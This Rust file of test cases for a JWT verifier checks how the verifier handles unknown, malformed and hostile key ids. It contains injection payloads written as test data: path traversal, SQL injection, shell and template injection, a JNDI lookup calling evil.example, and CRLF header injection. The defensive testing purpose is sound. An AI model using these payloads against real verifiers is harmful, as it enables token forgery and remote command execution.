//! Which key is meant: unknown, hostile and malformed key ids.

use serde_json::{Value, json};

use crate::bench::require;
use crate::case::Need::RemoteKeys;
use crate::case::Severity::{Critical, High, Medium};
use crate::case::{Case, Sample};
use crate::forge::Forge;
use auth_core::Algorithm;

/// A genuine signature under another key id.
fn named(forge: &Forge, kid: &Value) -> Sample {
    let label = format!("kid {}", kid.to_string().escape_debug());
    Sample::new(label, forge.good().header("kid", kid.clone()).sign())
}

/// A MAC under what a hostile key id would fetch.
fn injected(forge: &Forge, kid: &str, key: &[u8]) -> Sample {
    let draft = forge.good().header("kid", kid);
    Sample::new(format!("kid {kid:?}"), draft.with_mac(Algorithm::HS256, key))
}

pub(super) const CASES: &[Case] = &[
    Case::must("kid-unknown", "A key nobody knows", High)
        .refs(&["RFC 7515 §4.1.4"])
        .sends("A stranger's token under a made-up key id.")
        .why("No key, no check, no entry.")
        .refused(|forge| {
            let draft = forge.good().header("kid", "nobody").signed_by(&forge.keys.stranger);
            vec![Sample::new("nobody", draft.sign())]
        }),
    Case::must("kid-points-to-other-key", "Another key of the issuer's than was named", High)
        .refs(&["RFC 7515 §4.1.4"])
        .sends("A token signed with the issuer's current key that names its next one.")
        .why("The name selects the key; trying others helps whoever got hold of an old one.")
        .needs(&[RemoteKeys])
        .refused(|forge| vec![named(forge, &json!(forge.keys.next.id()))]),
    Case::must("kid-path-traversal", "A key id that is a path", Critical)
        .refs(&["RFC 8725 §3.10"])
        .sends("MACs under the content of the file that the key id names.")
        .why("A key id that becomes a file name lets the caller choose the key.")
        .refused(|forge| {
            vec![
                injected(forge, "../../../../dev/null", b""),
                injected(forge, "/dev/null", b""),
                injected(forge, "/proc/sys/kernel/ostype", b"Linux\n"),
            ]
        }),
    Case::must("kid-sql", "A key id that is a query", Critical)
        .refs(&["RFC 8725 §3.10"])
        .sends("A MAC under the text that the key id would make a database return.")
        .why("A key id that becomes a query lets the caller choose the key.")
        .refused(|forge| vec![injected(forge, "x' UNION SELECT 'secret';--", b"secret")]),
    Case::must("kid-command", "A key id that is a command", Critical)
        .refs(&["RFC 8725 §3.10"])
        .sends("Stranger's tokens whose key id is a shell command or a template.")
        .why("A key id is a name, and nothing evaluates it.")
        .refused(|forge| {
            ["|id", "$(id)", "`id`", "{{7*7}}", "${jndi:ldap://evil.example/a}", "%s%n"]
                .map(|kid| {
                    let draft = forge.good().header("kid", kid).signed_by(&forge.keys.stranger);
                    Sample::new(kid, draft.sign())
                })
                .into()
        }),
    Case::must("kid-case-sensitive", "The key id in other letter case", Medium)
        .refs(&["RFC 7515 §4.1.4"])
        .sends("A genuine token whose key id is written in capitals.")
        .why("Names are compared byte for byte.")
        .needs(&[RemoteKeys])
        .refused(|forge| vec![named(forge, &json!("CURRENT"))]),
    Case::must("kid-near-miss", "Almost the key id", Medium)
        .refs(&["RFC 7515 §4.1.4"])
        .sends("Genuine tokens whose key id has a space, an escape, or a wildcard.")
        .why("Names are compared byte for byte.")
        .needs(&[RemoteKeys])
        .refused(|forge| {
            [" current", "current ", "curren%74", "*", ".*", "curr"]
                .map(|kid| named(forge, &json!(kid)))
                .into()
        }),
    Case::must("kid-empty", "An empty key id", Medium)
        .refs(&["RFC 7515 §4.1.4"])
        .sends("A genuine token whose key id is the empty text.")
        .why("Empty is not absent, and selects nothing.")
        .refused(|forge| vec![named(forge, &json!(""))]),
    Case::must("kid-not-string", "A key id that is no text", High)
        .refs(&["RFC 7515 §4.1.4"])
        .sends("Genuine tokens whose key id is a number, a truth value, null, a list, an object.")
        .why("A value of the wrong type must not be coerced into a name.")
        .refused(|forge| {
            [
                json!(0),
                json!(1),
                json!(false),
                json!(true),
                json!(null),
                json!(["current"]),
                json!({"a": 1}),
            ]
            .iter()
            .map(|kid| named(forge, kid))
            .collect()
        }),
    Case::must("kid-control-characters", "A key id with control characters", Medium)
        .refs(&["CWE-117"])
        .sends("Genuine tokens whose key id holds a line break, a NUL, an escape sequence.")
        .why("Whatever logs or forwards the name would be fooled.")
        .refused(|forge| {
            ["a\r\nSet-Cookie: x=1", "a\0b", "\u{1b}[31m"]
                .map(|kid| named(forge, &json!(kid)))
                .into()
        }),
    Case::must("kid-too-long", "A key id of many kilobytes", Medium)
        .refs(&["CWE-400"])
        .sends("A genuine token whose key id has 4,000 characters.")
        .why("Names go into logs and caches.")
        .refused(|forge| {
            let token = forge.good().header("kid", "k".repeat(4000)).sign();
            vec![Sample::new("4,000 characters", token)]
        }),
    Case::must("kid-prototype-name", "A key id that objects inherit", Medium)
        .refs(&["CWE-1321"])
        .sends("Genuine tokens whose key id is `__proto__`, `constructor`, `toString`, `length`.")
        .why("A look-up must find keys, not what every object has.")
        .needs(&[RemoteKeys])
        .refused(|forge| {
            ["__proto__", "constructor", "toString", "length"]
                .map(|kid| named(forge, &json!(kid)))
                .into()
        }),
    Case::must("kid-absent-multiple", "No key id, several keys", Medium)
        .refs(&["RFC 7515 §4.1.4"])
        .sends("A genuine token without key id, while the issuer publishes two keys that fit.")
        .expects("accepted or refused with 401, the same every time")
        .why("Either answer is defensible, but it must be the same every time, and never a crash.")
        .needs(&[RemoteKeys])
        .scene(|bench| {
            Box::pin(async move {
                bench.control().await?;
                let token = bench.forge.good().without_header("kid").sign();
                let first = bench.subject().ask(&token).await;
                let second = bench.subject().ask(&token).await;
                bench.note("no kid", &first);
                require(first.is_allowed() || first.is_refused(), || format!("got {first}"))?;
                require(first.status == second.status, || format!("first {first}, then {second}"))
            })
        }),
    Case::should("kid-absent-single", "No key id, one key", Medium)
        .refs(&["RFC 7515 §4.1.4"])
        .sends("A genuine token without key id, while the issuer publishes one key.")
        .expects("accepted")
        .why("Small issuers have one key and do not name it.")
        .needs(&[RemoteKeys])
        .scene(|bench| {
            Box::pin(async move {
                bench.publish([&bench.forge.keys.current]);
                let token = bench.forge.good().without_header("kid").sign();
                bench.must_allow("no kid", &token).await
            })
        }),
    Case::must("kid-unusual-name", "A key id with slashes, spaces and accents", Medium)
        .refs(&["RFC 7517 §4.5"])
        .sends("A genuine token under the key id `a/b+c=d é:1`, which the issuer publishes.")
        .expects("accepted, and no other address asked")
        .why("A key id is any text; whoever pastes it into a URL breaks here.")
        .needs(&[RemoteKeys])
        .scene(|bench| {
            Box::pin(async move {
                let key = bench.forge.keys.current.clone().named("a/b+c=d é:1");
                bench.publish([&key]);
                let token = bench.forge.good().header("kid", key.id()).sign();
                bench.must_allow("unusual", &token).await?;
                bench.must_not_have_strayed()
            })
        }),
];
